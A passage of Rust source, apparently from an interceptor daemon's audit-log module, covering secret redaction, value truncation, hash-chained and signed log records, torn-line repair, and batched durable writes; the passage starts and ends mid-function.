        if !rules.any.is_match(text) {
            return std::borrow::Cow::Borrowed(text);
        }
        let mut out = text.to_owned();
        for (i, (re, with)) in rules.each.iter().enumerate() {
            let replaced = if i == PEM_RULE {
                re.replace_all(&out, pem_body)
            } else if COMMAND_RULES.contains(&i) {
                re.replace_all(&out, |caps: &regex::Captures<'_>| {
                    if at_command(&out, caps.get(0).map_or(0, |m| m.start())) {
                        format!("{}[REDACTED]", &caps[1])
                    } else {
                        caps[0].to_owned()
                    }
                })
            } else {
                re.replace_all(&out, *with)
            };
            if let std::borrow::Cow::Owned(replaced) = replaced {
                out = replaced;
            }
        }
        std::borrow::Cow::Owned(out)
    }

    fn render(&self, target: Target<'_>, cut: Cut, memo: &Memo) -> Vec<u8> {
        let mut r = Render {
            r: self,
            memo: Some(memo),
            out: Vec::with_capacity(256),
            cut,
            redacted: false,
            embedded: 0,
            depth: 0,
            hiding: false,
        };
        match target {
            Target::Value(v) => r.value(v),
            Target::Object(m) => r.object(m),
        }
        r.out
    }

    /// The redacted text; over `max_argument_bytes`, a marker with its length and SHA-256
    /// and `value`: the same shortened so that one long value cannot push what follows it out
    /// of the record: strings and keys cut to 256, 64 or 16 bytes, arrays to a quarter as many
    /// items (the longest that fits, `strings_cut_to`); if none fits, also the objects and
    /// arrays one or two levels down whose rendering is over a quarter of the budget, then a
    /// sixteenth, then 64 bytes, then all, replaced by a count of what they hold
    /// (`nested_counted_over`); if even that is over (a top level of thousands of keys),
    /// `head`: the first half of the budget of that text, and `members`, how many the top
    /// level has.
    fn finish(&self, target: Target<'_>) -> String {
        let memo = Memo::default();
        let text = self.render(target, Cut::NONE, &memo);
        if text.len() <= self.max_bytes {
            return String::from_utf8(text).unwrap_or_else(|_| "null".into());
        }
        let marker = |fields: &str, body: &[u8]| {
            let mut out = format!(
                r#"{{"[TRUNCATED]":true,"bytes":{},"sha256":"{}",{fields}"#,
                text.len(),
                hex(&Sha256::digest(&text)),
            )
            .into_bytes();
            out.extend_from_slice(body);
            out.push(b'}');
            String::from_utf8(out).unwrap_or_else(|_| "null".into())
        };
        for bytes in STRING_CUTS {
            let shortened = self.render(target, Cut::to(bytes), &memo);
            if shortened.len() <= self.max_bytes {
                return marker(&format!(r#""strings_cut_to":{bytes},"value":"#), &shortened);
            }
        }
        let last = STRING_CUTS[STRING_CUTS.len() - 1];
        let mut counted = Vec::new();
        for over in [self.max_bytes / 4, self.max_bytes / 16, 64, 0] {
            counted = self.render(
                target,
                Cut {
                    count_over: over,
                    ..Cut::to(last)
                },
                &memo,
            );
            if counted.len() <= self.max_bytes {
                return marker(
                    &format!(r#""strings_cut_to":{last},"nested_counted_over":{over},"value":"#),
                    &counted,
                );
            }
        }
        // Escaped as a string the text may grow (quotes), to at most twice: half the budget.
        let counted = String::from_utf8(counted).unwrap_or_default();
        let end = counted.floor_char_boundary(self.max_bytes / 2);
        let members = match target {
            Target::Value(Value::Object(m)) | Target::Object(m) => m.len(),
            Target::Value(Value::Array(a)) => a.len(),
            Target::Value(_) => 1,
        };
        let mut head = Vec::new();
        json_into(&mut head, &counted[..end]);
        marker(
            &format!(
                r#""strings_cut_to":{last},"nested_counted_over":0,"members":{members},"head":"#
            ),
            &head,
        )
    }

    /// Whether `key` matches one of the `redact_keys` patterns.
    fn named_by_pattern(&self, key: &str) -> bool {
        self.patterns.iter().any(|p| p.matches(key))
    }

    /// Whether `key` contains one of the redacted words, compared in [`key_form`], or matches
    /// one of the patterns.
    fn secret(&self, key: &str) -> bool {
        if self.named_by_pattern(key) {
            return true;
        }
        if key.is_ascii() && key.len() <= 128 {
            // The common case, without allocating: short ASCII keys.
            let mut buf = [0u8; 128];
            let mut n = 0;
            for b in key
                .bytes()
                .filter(|b| !matches!(b, b'_' | b'-' | b'.' | b' '))
            {
                buf[n] = b.to_ascii_lowercase();
                n += 1;
            }
            let k = &buf[..n];
            self.keys
                .iter()
                .any(|p| p.is_empty() || k.windows(p.len()).any(|w| w == p.as_bytes()))
        } else {
            let form = key_form(key);
            self.keys.iter().any(|p| form.contains(p.as_str()))
        }
    }
}

/// A `redact_keys` entry written as a pattern — a glob (`*`, `?`, `[…]`, `{…}`) or `^regex$`
/// — compiled to match whole keys without regard to ASCII case; `None` for a word (matched
/// inside keys, see [`key_form`]).
pub(crate) fn redact_key_pattern(entry: &str) -> Option<Result<crate::policy::Pattern, String>> {
    let pattern =
        entry.contains(['*', '?', '[', '{']) || entry.starts_with('^') || entry.ends_with('$');
    pattern.then(|| crate::policy::Pattern::new_folded(entry, false))
}

/// A key that looks like it names a member rather than holds data: short, of identifier
/// characters (its shape as a secret is judged by the caller).
fn identifier(key: &str) -> bool {
    key.len() <= 64
        && key
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
}

/// A count of tokens, which language-model tools take (`max_tokens`, `maxTokens`,
/// `num_tokens`): a number under a key about tokens in the plural is no credential, and
/// redacting it hides what the call asked for. (A string or anything else there is still
/// redacted, and a singular `token` always is.)
fn counts_tokens(key: &str, value: &Value) -> bool {
    value.is_number() && key.to_ascii_lowercase().contains("tokens")
}

/// Lower-case hex.
pub(crate) fn hex(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut s = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        s.push(DIGITS[usize::from(b >> 4)] as char);
        s.push(DIGITS[usize::from(b & 15)] as char);
    }
    s
}

/// RFC 3339, UTC, microseconds.
pub fn timestamp(t: SystemTime) -> String {
    humantime::format_rfc3339_micros(t).to_string()
}

/// Appends the line of the event with `members` at `seq` after `prev`: its text with `"hash"`
/// appended as the last member, where the hash is the SHA-256 of the text before it plus the
/// closing brace. Returns the hash.
fn seal_into(buf: &mut Vec<u8>, seq: u64, prev: &str, members: &[u8]) -> String {
    let start = buf.len();
    buf.extend_from_slice(b"{\"seq\":");
    json_into(buf, &seq);
    buf.extend_from_slice(b",\"prev_hash\":\"");
    buf.extend_from_slice(prev.as_bytes());
    buf.extend_from_slice(b"\",");
    buf.extend_from_slice(members);
    buf.push(b'}');
    let hash = hex(&Sha256::digest(&buf[start..]));
    buf.pop();
    buf.extend_from_slice(b",\"hash\":\"");
    buf.extend_from_slice(hash.as_bytes());
    buf.extend_from_slice(b"\"}\n");
    hash
}

/// The chained line of `event` at `seq` after `prev` (what the writer appends), and its hash.
pub fn seal_line(seq: u64, prev: &str, event: &Event) -> (Vec<u8>, String) {
    let mut buf = Vec::with_capacity(event.0.len() + 200);
    let hash = seal_into(&mut buf, seq, prev, &event.0);
    (buf, hash)
}

/// Splits a line into (the sealed body, the hash it claims); `None` when the line does not end
/// in a hash member.
fn unseal(line: &str) -> Option<(String, &str)> {
    const TAIL: usize = ",\"hash\":\"".len() + 64 + 2;
    if line.len() < TAIL + 1 || !line.ends_with("\"}") {
        return None;
    }
    let split = line.len() - TAIL;
    // A tampered line may put a multi-byte character across the split: not a valid seal.
    if !line.is_char_boundary(split) {
        return None;
    }
    let (body, tail) = line.split_at(split);
    let hash = tail.strip_prefix(",\"hash\":\"")?.strip_suffix("\"}")?;
    if hash.len() != 64 || !hash.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    Some((format!("{body}}}"), hash))
}

/// Counters the audit log keeps (for status and metrics).
#[derive(Debug)]
pub struct Stats {
    pub events: AtomicU64,
    /// `write(2)` calls that wrote events (a group each).
    pub writes: AtomicU64,
    pub failures: AtomicU64,
    /// Events recorded without a caller waiting that were dropped: the log stayed unwritable
    /// while more than [`MAX_BACKLOG`] of them queued.
    pub lost: AtomicU64,
    /// Of those, how many no `audit.lost` event has recorded yet.
    lost_unrecorded: AtomicU64,
    pub syncs: AtomicU64,
    /// The `seq` of the last record written (read without the writer's lock, which a
    /// `write(2)` or a rotation on slow storage holds).
    last_seq: AtomicU64,
    /// `audit.checkpoint` events written.
    pub checkpoints: AtomicU64,
    /// The `seq` of the last record a checkpoint signed (0: none yet).
    pub signed_through: AtomicU64,
    /// Total fdatasync time, µs.
    pub sync_micros: AtomicU64,
    /// Each fdatasync's time, seconds (the metrics' `audit_fsync_seconds`).
    pub sync_seconds: prometheus_client::metrics::histogram::Histogram,
}

impl Default for Stats {
    fn default() -> Self {
        Self {
            events: AtomicU64::new(0),
            writes: AtomicU64::new(0),
            failures: AtomicU64::new(0),
            lost: AtomicU64::new(0),
            lost_unrecorded: AtomicU64::new(0),
            syncs: AtomicU64::new(0),
            last_seq: AtomicU64::new(0),
            checkpoints: AtomicU64::new(0),
            signed_through: AtomicU64::new(0),
            sync_micros: AtomicU64::new(0),
            // 50 µs … ~1.6 s
            sync_seconds: prometheus_client::metrics::histogram::Histogram::new(
                prometheus_client::metrics::histogram::exponential_buckets(0.000_05, 2.0, 16),
            ),
        }
    }
}

/// The audit log handle shared by the daemon.
///
/// Writes happen on a caller's thread (`write` mode costs a `write(2)`, no thread hand-off).
/// Callers that come while another one writes queue behind it without blocking their thread,
/// and that caller writes the queued events too, a group per `write(2)` (see
/// [`Shared::write_in_turn`]). Deferred events ([`Audit::record_later`]) ride along with the
/// next write or are written by the connection worker that deferred them when it goes idle
/// ([`Audit::idle_flusher`]). A background thread writes the rest (within [`FLUSH_DELAY`],
/// or [`SYNC_INTERVAL`] for a worker that stays busy), runs the group `fdatasync` that
/// `fsync`-mode callers wait for, and the periodic one of `write` mode.
pub struct Audit {
    shared: Arc<Shared>,
    background: Mutex<Option<std::thread::JoinHandle<()>>>,
    pub stats: Arc<Stats>,
    pub config: RawAudit,
    pub redactor: Redactor,
}

struct Shared {
    /// The log's path (for messages; the writer has its own copy).
    path: PathBuf,
    /// The `identity` object of the process that opened the log (the daemon), for the events
    /// the log records about itself.
    opener: String,
    /// Held for a `write(2)`, by the caller whose turn it is or by the background thread.
    writer: Mutex<Writer>,
    /// Deferred events and callers waiting for their turn; never held across a syscall.
    queue: Mutex<Queue>,
    bg: Mutex<Background>,
    wake: Condvar,
    /// Set by [`Audit::close`]: deferred events are written at once from then on.
    closed: AtomicBool,
    durability: Durability,
    healthy: AtomicBool,
    /// Checkpoints are signed (see [`Audit::sign_checkpoints`]): without, the audit thread
    /// does not take the writer's lock to look.
    signs: AtomicBool,
    stats: Arc<Stats>,
}

thread_local! {
    /// The log (its [`Shared`]'s address) whose deferred events this thread writes when it goes
    /// idle (see [`Audit::idle_flusher`]); 0 for none.
    static IDLE_WRITER: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
    /// This thread deferred events to that log since it last wrote them.
    static DEFERRED_HERE: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

/// Work for the background thread.
#[derive(Default)]
struct Background {
    /// Deferred events are waiting.
    flush: bool,
    /// Callers waiting for an `fdatasync` covering what they wrote.
    sync_waiters: Vec<SyncWaiter>,
    stop: bool,
}

/// Who waits for an `fdatasync`, and the last `seq` its events may be at (see
/// [`Writer::unsafe_through`]).
type SyncWaiter = (tokio::sync::oneshot::Sender<Result<(), Error>>, u64);

/// A write's outcome: the `seq` of the last record it wrote (or of the last record there is).
type Written = Result<u64, Error>;

/// What waits to be written.
#[derive(Default)]
struct Queue {
    /// Deferred events, written before the next batch.
    later: Vec<Event>,
    /// Their bytes (kept as they come and go; see [`MAX_DEFERRED_BYTES`]).
    later_bytes: usize,
    /// A caller is writing; callers that come meanwhile wait in `waiting`.
    busy: bool,
    waiting: VecDeque<Waiter>,
}

impl Queue {
    /// Keeps `events` for the next write, whatever the bounds (they are few: the events of
    /// callers a turn ends without writing for, the record of what was lost).
    fn keep_later(&mut self, events: Vec<Event>) {
        self.later_bytes += events.iter().map(|e| e.0.len()).sum::<usize>();
        self.later.extend(events);
    }

    /// The deferred events, for a write.
    fn take_later(&mut self) -> Vec<Event> {
        self.later_bytes = 0;
        std::mem::take(&mut self.later)
    }
}

/// A caller queued behind the one writing.
struct Waiter {
    events: Vec<Event>,
    turn: tokio::sync::oneshot::Sender<Turn>,
}

/// What a queued caller is told.
enum Turn {
    /// Its events were written by the caller whose turn it was (with this outcome).
    Written(Written),
    /// That turn ended first: try again with these (its own) events.
    Retry(Vec<Event>),
}

/// How many groups that queued during a turn's own write the turn writes too, before it lets
/// them try again (bounds the time one caller spends writing for others).
const EXTRA_ROUNDS: usize = 3;

/// A queued caller's wait; if the caller gives up after being told to try again, its events
/// are still recorded.
struct Queued<'a> {
    rx: tokio::sync::oneshot::Receiver<Turn>,
    answered: bool,
    shared: &'a Shared,
}

impl Drop for Queued<'_> {
    fn drop(&mut self) {
        if self.answered {
            return;
        }
        // Unanswered. Once closed, a turn that already took this caller's events writes them
        // (the answer is just not delivered), and one that would tell it to retry defers them.
        // Otherwise they are still queued: they move to the deferred events now, ahead of
        // anything its connection defers after giving up (its close).
        self.rx.close();
        let gone = {
            let mut q = lock(&self.shared.queue);
            let (gone, still): (VecDeque<Waiter>, _) =
                q.waiting.drain(..).partition(|w| w.turn.is_closed());
            q.waiting = still;
            gone
        };
        let mut events: Vec<Event> = gone.into_iter().flat_map(|w| w.events).collect();
        if let Ok(Turn::Retry(mine)) = self.rx.try_recv() {
            events.extend(mine);
        }
        if !events.is_empty() {
            // Over the bound these go too (their requests were not forwarded), counted.
            let _ = self.shared.defer(events);
        }
    }
}

/// Ends a turn when dropped (see [`Shared::end_turn`]).
struct EndTurn<'a>(&'a Shared);

impl Drop for EndTurn<'_> {
    fn drop(&mut self) {
        self.0.end_turn();
    }
}

/// Longest a group `fdatasync` waits for the writers of the previous group to come back.
const GROUP_WAIT: Duration = Duration::from_micros(200);

/// How long deferred events wait, so that several share one `write(2)`.
pub const FLUSH_DELAY: Duration = Duration::from_millis(1);

impl Audit {
    /// Opens (or creates) the log, repairs a torn last line, and starts the background thread.
    /// `opener` is the `identity` object (JSON text) of the process opening it, recorded with
    /// a repair.
    pub fn open(config: RawAudit, opener: &str) -> Result<Self, Error> {
        let open_err = |message: String| Error::Open {
            path: config.path.clone(),
            message,
        };
        if let Some(dir) = config.path.parent().filter(|d| !d.as_os_str().is_empty()) {
            // Writable by root only (0750, or less if the umask says so).
            use std::os::unix::fs::DirBuilderExt;
            std::fs::DirBuilder::new()
                .recursive(true)
                .mode(0o750)
                .create(dir)
                .map_err(|e| open_err(format!("creating {}: {e}", dir.display())))?;
        }
        let mut file = open_log(&config.path).map_err(|e| open_err(e.to_string()))?;
        // One writer per log: a second daemon would see the first one's line in progress as
        // torn, cut it, and fork the chain.
        lock_exclusive(&file).map_err(|e| {
            open_err(format!(
                "{e}; another interceptor daemon is writing this log (one daemon per node)"
            ))
        })?;
        let mut tail = read_tail(&mut file).map_err(|e| open_err(e.to_string()))?;
        // (A torn first record too: a power loss just after a rotation.)
        if tail.valid_len == 0 && tail.invalid.is_none() {
            // A new or emptied file (rotation, logrotate, removal): continue the chain from the
            // newest rotated file beside it.
            if let Some((seq, hash)) = newest_rotated_head(&config.path) {
                tail.last_seq = seq;
                tail.last_hash = hash;
            }
        }
        if tail.last_seq == u64::MAX {
            return Err(open_err(
                "its last record has seq 18446744073709551615, the last there is: no record \
                 can follow (an edited log); move the log and its rotated files away to start \
                 a new chain"
                    .into(),
            ));
        }
        let stats = Arc::new(Stats::default());
        stats.last_seq.store(tail.last_seq, Ordering::Relaxed);
        let mut writer = Writer {
            path: config.path.clone(),
            file: Arc::new(file),
            len: tail.valid_len,
            seq: tail.last_seq,
            prev_hash: tail.last_hash.clone(),
            max_file_bytes: config.max_file_bytes,
            max_files: config.max_files,
            opener: opener.to_owned(),
            prune: None,
            signing: None,
            dirty: false,
            unsafe_through: None,
            poisoned: None,
            poison_left: None,
            path_checked: Instant::now(),
            retried: None,
            stats: stats.clone(),
        };
        let mut repair = Event::new("audit.repair").raw("identity", opener);
        let mut repaired = false;
        if let Some(torn) = &tail.torn {
            warn!(
                bytes = torn.len(),
                "audit log ends in a torn line; cutting it off"
            );
            writer
                .file
                .set_len(tail.valid_len)
                .map_err(|e| open_err(format!("truncating the torn last line: {e}")))?;
            repair = repair
                .field("torn_bytes", &torn.len())
                .field("torn_sha256", &hex(&Sha256::digest(torn)));
            repaired = true;
        }
        if tail.unterminated {
            warn!(
                "the audit log's last record lacks its line break (a write stopped just before it); adding it"
            );
            (&*writer.file)
                .write_all(b"\n")
                .map_err(|e| open_err(format!("ending the last record's line: {e}")))?;
            writer.len += 1;
            repair = repair.field("line_break_added", &true);
            repaired = true;
        }
        if let Some(invalid) = &tail.invalid {
            if tail.invalid_unterminated {
                (&*writer.file)
                    .write_all(b"\n")
                    .map_err(|e| open_err(format!("ending the last line: {e}")))?;
                writer.len += 1;
            }
            warn!(
                bytes = invalid.len(),
                "the audit log's last line is not a valid record: it was edited (no crash leaves \
                 a complete invalid line); kept as evidence, the chain continues from the last \
                 valid record before it and `interceptor audit verify` reports the line"
            );
            repair = repair
                .field("invalid_line_bytes", &invalid.len())
                .field("invalid_line_sha256", &hex(&Sha256::digest(invalid)));
            repaired = true;
        }
        if repaired {
            writer
                .write_batch(&[repair])
                .map_err(|e| open_err(format!("recording the repair: {e}")))?;
        }
        let shared = Arc::new(Shared {
            path: config.path.clone(),
            opener: opener.to_owned(),
            writer: Mutex::new(writer),
            queue: Mutex::new(Queue::default()),
            bg: Mutex::new(Background::default()),
            wake: Condvar::new(),
            closed: AtomicBool::new(false),
            durability: config.durability,
            healthy: AtomicBool::new(true),
            signs: AtomicBool::new(false),
            stats: stats.clone(),
        });
        let bg = shared.clone();
        let background = std::thread::Builder::new()
            .name("audit-sync".into())
            .spawn(move || bg.background())
            .map_err(|e| open_err(format!("starting the background thread: {e}")))?;
        Ok(Self {
            shared,
            background: Mutex::new(Some(background)),
            stats,
            redactor: Redactor::new(&config),
            config,
        })
    }

    /// Whether the last write succeeded.
    pub fn healthy(&self) -> bool {
        self.shared.healthy.load(Ordering::Relaxed)
    }

    /// The `seq` of the last event written: what the log's last line must carry.
    pub fn last_seq(&self) -> u64 {
        self.shared.stats.last_seq.load(Ordering::Relaxed)
    }

    /// From now on, signs the chain with `key` in `audit.checkpoint` events: at most
    /// `[audit] checkpoint_interval` after a record, before each rotation and when the log
    /// closes (the daemon's stop). Records written before (the daemon's start, a crashed
    /// run's tail) are signed by the first checkpoint.
    ///
    /// Records the log holds after its last checkpoint (a killed run's
    /// last records; or a log rewritten while no daemon ran, or one from before signing) are
    /// signed by the first checkpoint as found, saying so (`adopted_after`,
    /// `adopted_through`): `audit verify` names them, and `--strict` fails them.
    pub fn sign_checkpoints(&self, key: Arc<crate::ca::JwsSigner>, node: &str) {
        let every = self
            .config
            .checkpoint_every()
            .unwrap_or(Duration::from_secs(1));
        let path = &self.config.path;
        let mut w = lock(&self.shared.writer);
        // The last checkpoint in the chain the writer continues: in the live file, else at
        // the end of the file the live one continues (a daemon-rotated file ending in the
        // record before the live file's first, or in the writer's own last record). Whatever
        // its key (a renewed CA's predecessor's too): `verify` checks the signature.
        let tail = (w.seq, w.prev_hash.clone());
        let (mut found, mut first) = last_checkpoint(path, (tail.0, &tail.1));
        // Back through the files the chain came through (a quick crash can leave one or two
        // without a checkpoint), at most a few: each is read whole.
        let mut end = tail;
        let mut rotated: Vec<(u64, PathBuf)> = named_after(path)
            .filter(|(p, _, _)| daemons_own(p))
            .filter_map(|(p, _, _)| Some((first_seq(&p)?, p)))
            .collect();
        rotated.sort_by_key(|(seq, _)| std::cmp::Reverse(*seq));
        for _ in 0..MAX_FILES_BACK {
            if found.is_some() {
                break;
            }
            end = match first.take() {
                Some((seq, prev)) => match seq.checked_sub(1) {
                    Some(before) if before > 0 => (before, prev),
                    _ => break,
                },
                None => end,
            };
            // The file holding record `end`: the one that starts latest at or before it.
            let Some((_, file)) = rotated.iter().find(|(start, _)| *start <= end.0) else {
                break;
            };
            (found, first) = last_checkpoint(file, (end.0, &end.1));
            if first.is_none() {
                break;
            }
        }
        let after = found.unwrap_or(0);
        let adopted = (w.seq > after).then_some((after, w.seq));
        w.signing = Some(Signing {
            key,
            node: node.to_owned(),
            every,
            last: Instant::now(),
            unsigned: w.seq.saturating_sub(after),
            adopted,
        });
        self.shared.signs.store(true, Ordering::Relaxed);
    }

    /// Records `event`; returns when it is durable according to the configured mode. The
    /// writer adds `seq`, `prev_hash`, `hash`.
    pub async fn record(&self, event: Event) -> Result<(), Error> {
        self.record_all(vec![event]).await
    }

    /// Records `events` together (one write, all or none); returns when they are durable
    /// according to the configured mode: written (`write`), on stable storage (`fsync`), or
    /// queued (`async`).
    pub async fn record_all(&self, events: Vec<Event>) -> Result<(), Error> {
        if events.is_empty() {
            // Nothing to write: no verdict on the log's health either way.
            return self.shared.healthy_or_err();
        }
        match self.shared.durability {
            Durability::Async => {
                if self.shared.healthy_or_err().is_err() {
                    // After a failure, written now: that tries the log again (a repaired one
                    // takes them and is healthy again; a broken one refuses them).
                    return self.shared.write(events).map(drop);
                }
                // Over the bound, refused: a request is never forwarded with no record.
                if !self.shared.defer(events) {
                    return Err(Error::Unavailable(
                        "events come faster than the log takes them".into(),
                    ));
                }
                Ok(())
            }
            Durability::Write => self.shared.write_in_turn(events).await.map(drop),
            Durability::Fsync => {
                let through = self.shared.write_in_turn(events).await?;
                // Its worker keeps polling meanwhile (see `workers::AwaitingAnswer`).
                let _awaiting = crate::workers::AwaitingAnswer::new();
                match self.shared.request_sync(through).await {
                    Ok(Ok(())) => Ok(()),
                    Ok(Err(Error::Unavailable(why) | Error::NotDurable(why))) => {
                        Err(Error::NotDurable(why))
                    }
                    Ok(Err(e)) => Err(Error::NotDurable(e.to_string())),
                    Err(_) => Err(Error::NotDurable("the audit thread has stopped".into())),
                }
            }
        }
    }

    /// Records `event` without waiting (events that gate nothing: responses, closes); it is
    /// written with the next recorded event, when this connection worker goes idle (see
    /// [`Audit::idle_flusher`]), or by the background thread (within [`FLUSH_DELAY`] off the
    /// workers, [`SYNC_INTERVAL`] for a worker that stays busy), whichever is first.
    pub fn record_later(&self, event: Event) {
        // Dropped over the bound: counted, and recorded as `audit.lost`.
        let _ = self.shared.defer(vec![event]);
    }

    /// The function a connection worker calls when it starts and whenever it is about to go
    /// idle (tokio's `on_thread_park`): from its first call, events this log defers on that
    /// thread are written by it then (or with an earlier write) instead of by the background
    /// thread, which saves a cross-thread wake-up, on the request path, per response. A worker
    /// that never goes idle and writes nothing else leaves them to the background thread's
    /// periodic turn ([`SYNC_INTERVAL`]). `async` mode keeps every write on the background
    /// thread.
    pub fn idle_flusher(&self) -> impl Fn() + Send + Sync + Clone + 'static {
        let shared = self.shared.clone();
        let enabled = shared.durability != Durability::Async;
        move || {
            if !enabled {
                return;
            }
            // Deferrals on this thread count from the first call (a worker makes it when it
            // starts).
            IDLE_WRITER.set(shared.address());
            // Ending the turn may defer the events of callers that gave up meanwhile.
            while DEFERRED_HERE.replace(false) {
                shared.flush_idle();
            }
        }
    }

    /// The next write is tried even within [`UNHEALTHY_RETRY`] of a failed one (the daemon's
    /// last event, at its stop).
    pub fn try_now(&self) {
        self.shared.try_now();
    }

    /// Ends the log as a daemon's stop does (not waiting for the last owner to drop it: an admin
    /// request still running past the stop's wait may hold the daemon): the deferred events
    /// written, the closing checkpoint, the last `fdatasync`; the audit thread stops. A later
    /// `fsync`-mode record fails (nobody syncs any more). Idempotent.
    pub fn close(&self) {
        self.shared.closed.store(true, Ordering::Relaxed);
        lock(&self.shared.bg).stop = true;
        self.shared.wake.notify_one();
        let thread = lock(&self.background).take();
        if let Some(t) = thread {
            let _ = t.join();
        }
    }

    /// Records `event` and waits, from synchronous code (start-up, shutdown, admin).
    pub fn record_blocking(&self, event: Event) -> Result<(), Error> {
        let through = self.shared.write(vec![event])?;
        if self.shared.durability == Durability::Fsync {
            return self
                .shared
                .request_sync(through)
                .blocking_recv()
                .map_err(thread_stopped)?;
        }
        Ok(())
    }
}

/// The error of an `fdatasync` request the background thread will never answer.
fn thread_stopped(_: tokio::sync::oneshot::error::RecvError) -> Error {
    Error::Unavailable("the audit thread has stopped".into())
}

impl Drop for Audit {
    fn drop(&mut self) {
        self.close();
    }
}

impl Shared {
    /// Writes `events` in the caller's turn: at once if nobody is writing, otherwise after
    /// queueing behind the caller who is, without blocking the thread. The caller whose turn it
    /// is writes its events with those of every caller queued at that moment in one `write(2)`,
    /// then the group that queued meanwhile, and so on for at most [`EXTRA_ROUNDS`] more
    /// groups; callers still queued after that are told to try again (whichever of them runs
    /// first writes for the others). So under concurrency a `write(2)` carries a group, callers
    /// that queue never block their thread, and no caller waits for another particular task to
    /// be polled. The caller whose turn it is may wait for the background thread's `write(2)`.
    /// All or none of a group is written; every member gets the outcome.
    async fn write_in_turn(&self, mut events: Vec<Event>) -> Written {
        loop {
            let rx = {
                let mut q = lock(&self.queue);
                if !q.busy {
                    q.busy = true;
                    break;
                }
                let (turn, rx) = tokio::sync::oneshot::channel();
                q.waiting.push_back(Waiter { events, turn });
                rx
            };
            let mut waiting = Queued {
                rx,
                answered: false,
                shared: self,
            };
            let turn = (&mut waiting.rx).await;
            waiting.answered = true;
            match turn {
                Ok(Turn::Written(result)) => return result,
                Ok(Turn::Retry(mine)) => events = mine,
                // Only if the turn before panicked: nothing is known of these events.
                Err(_) => {
                    return Err(Error::Unavailable(
                        "the audit write ahead of this one did not finish".into(),
                    ));
                }
            }
        }
        // Ends the turn however this one ends (callers still queued try again).
        let _end = EndTurn(self);
        self.write_turn(events)
    }

    /// Writes the deferred events now, from a connection worker about to go idle, unless
    /// another caller is writing (it may have taken the deferred events before these came;
    /// the background thread then writes them after it).
    fn flush_idle(&self) {
        {
            let mut q = lock(&self.queue);
            if q.later.is_empty() {
                return;
            }
            if q.busy {
                drop(q);
                self.wake_background();
                return;
            }
            q.busy = true;
        }
        let _end = EndTurn(self);
        // A failure is counted and logged; nobody waits for these events.
        let _ = self.write_turn(Vec::new());
    }

    /// The writing part of a turn (the caller set `busy` and ends the turn): the deferred
    /// events, `events` and the queued callers' events in one `write(2)`, then the groups that
    /// queued meanwhile (see [`Shared::write_in_turn`]).
    fn write_turn(&self, events: Vec<Event>) -> Written {
        let mut result = None;
        let mut mine = Some(events);
        for _ in 0..=EXTRA_ROUNDS {
            // The deferred events and the queue are taken together under the writer lock:
            // whatever is deferred after this (a connection's close) goes into a later write.
            let writer = lock(&self.writer);
            let mut q = lock(&self.queue);
            if q.waiting.is_empty() && mine.is_none() {
                break;
            }
            let mut batch = q.take_later();
            let deferred = batch.len();
            let queued: Vec<Waiter> = q.waiting.drain(..).collect();
            drop(q);
            batch.extend(mine.take().unwrap_or_default());
            let mut turns = Vec::with_capacity(queued.len());
            for w in queued {
                batch.extend(w.events);
                turns.push(w.turn);
            }
            let outcome = self.write_locked(writer, batch, deferred);
            for turn in turns {
                // A caller that gave up meanwhile is not told; its events are written.
                let _ = turn.send(Turn::Written(outcome.clone()));
            }
            result.get_or_insert(outcome);
        }
        result.unwrap_or_else(|| Ok(lock(&self.writer).seq))
    }

    /// See [`Audit::try_now`].
    fn try_now(&self) {
        lock(&self.writer).retried = None;
    }

    /// Ends a turn: the log is free again, and callers still queued try again.
    fn end_turn(&self) {
        let mut gave_up = false;
        {
            let mut q = lock(&self.queue);
            q.busy = false;
            let queued: Vec<Waiter> = q.waiting.drain(..).collect();
            for w in queued {
                if let Err(Turn::Retry(events)) = w.turn.send(Turn::Retry(w.events)) {
                    // It gave up waiting (its request is gone): its events are still recorded,
                    // with the next write. Deferred under the queue lock, which the caller's
                    // `Queued::drop` takes before its connection can defer anything else (its
                    // close), so they stay ahead of it.
                    q.keep_later(events);
                    gave_up = true;
                }
            }
        }
        if gave_up {
            self.deferred();
        }
    }

    /// Writes the deferred events and then `events` in one `write(2)`, under the writer lock.
    fn write(&self, events: Vec<Event>) -> Written {
        let writer = lock(&self.writer);
        let mut batch = lock(&self.queue).take_later();
        let deferred = batch.len();
        batch.extend(events);
        self.write_locked(writer, batch, deferred)
    }

    /// Writes `batch` in one `write(2)` with the writer lock held, and counts the outcome. If
    /// the write fails, its first `deferred` events (responses, closes, admin events: recorded
    /// without a caller waiting) go back to the front of the queue for the next write; the
    /// others' callers are told and refuse what the events were for.
    fn write_locked(
        &self,
        mut w: std::sync::MutexGuard<'_, Writer>,
        mut batch: Vec<Event>,
        deferred: usize,
    ) -> Written {
        if batch.is_empty() {
            return Ok(w.seq);
        }
        let n = batch.len() as u64;
        let paced = !self.healthy.load(Ordering::Relaxed)
            && w.retried.is_some_and(|t| t.elapsed() < UNHEALTHY_RETRY);
        let result = if paced {
            Err(io::Error::other(format!(
                "the last write failed; while it fails the log is tried again at most every {} ms",
                UNHEALTHY_RETRY.as_millis()
            )))
        } else {
            let written = w.write_batch(&batch);
            w.retried = written.is_err().then(Instant::now);
            written
        };
        if result.is_err() && deferred > 0 {
            // Under the writer lock still: no other write comes between.
            batch.truncate(deferred);
            let mut q = lock(&self.queue);
            batch.append(&mut q.later);
            let mut over = batch.len().saturating_sub(MAX_BACKLOG);
            let mut bytes: usize = batch[over..].iter().map(|e| e.0.len()).sum();
            while bytes > MAX_BACKLOG_BYTES && over < batch.len() {
                bytes -= batch[over].0.len();
                over += 1;
            }
            if over > 0 {
                // The log stays unwritable: the oldest go (counted, and recorded once it
                // takes events again), rather than memory and every retry growing for good.
                let lost = over;
                batch.drain(..lost);
                self.stats.lost.fetch_add(lost as u64, Ordering::Relaxed);
                self.stats
                    .lost_unrecorded
                    .fetch_add(lost as u64, Ordering::Relaxed);
            }
            q.later = batch;
            q.later_bytes = bytes;
        }
        let through = w.seq;
        drop(w);
        match result {
            Ok(()) => {
                self.stats.events.fetch_add(n, Ordering::Relaxed);
                self.stats.writes.fetch_add(1, Ordering::Relaxed);
                if !self.healthy.swap(true, Ordering::Relaxed) {
                    info!("audit log writable again");
                }
                // Dropped while the log was unwritable, or while events came faster than it
